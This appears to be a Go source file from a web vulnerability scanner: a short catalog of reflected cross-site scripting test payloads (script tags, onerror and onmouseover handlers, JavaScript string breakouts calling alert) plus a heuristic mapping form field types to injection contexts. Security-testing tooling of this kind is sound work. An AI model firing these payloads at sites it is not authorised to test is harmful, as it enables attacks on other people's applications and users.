package xss

import (
	"strings"
)

// Context is the likely reflection sink for a parameter
type Context string

const (
	ContextProbe Context = "probe"
	ContextHTML  Context = "html"
	ContextAttr  Context = "attr"
	ContextJS    Context = "js"
)

// Lightweight payload catalog for reflected XSS checks. Kept short so
// scan speed stays reasonable while the major contexts are covered.
var xssPayloads = map[Context][]string{
	ContextProbe: {
		"xssprobe123",
		`xss'"<>123`,
	},
	ContextHTML: {
		"<script>alert(1337)</script>",
		"<img src=x onerror=alert(1337)>",
	},
	ContextAttr: {
		`" onmouseover="alert(1337)`,
		`' autofocus onfocus=alert(1337) x='`,
	},
	ContextJS: {
		`';alert(1337);//`,
		`";alert(1337);//`,
	},
}

func normalizeParamType(paramType string) string {
	return strings.ToLower(strings.TrimSpace(paramType))
}

// ClassifyContext maps a declared field type to the likely sink
// context. Heuristic and intentionally conservative; it only selects
// which payload list to try, never whether probing happens.
func ClassifyContext(paramType string) Context {
	switch ptype := normalizeParamType(paramType); ptype {
	case "query":
		return ContextHTML
	case "textarea", "text", "search", "email", "url", "tel", "password":
		return ContextHTML
	case "hidden", "select":
		return ContextAttr
	case "number", "range", "date", "datetime-local", "time", "month", "week":
		return ContextJS
	default:
		if strings.HasPrefix(ptype, "button:") {
			return ContextAttr
		}
		return ContextHTML
	}
}

func getProbePayloads() []string {
	return xssPayloads[ContextProbe]
}

func getContextPayloads(context Context) []string {
	if payloads, ok := xssPayloads[context]; ok {
		return payloads
	}
	return xssPayloads[ContextHTML]
}
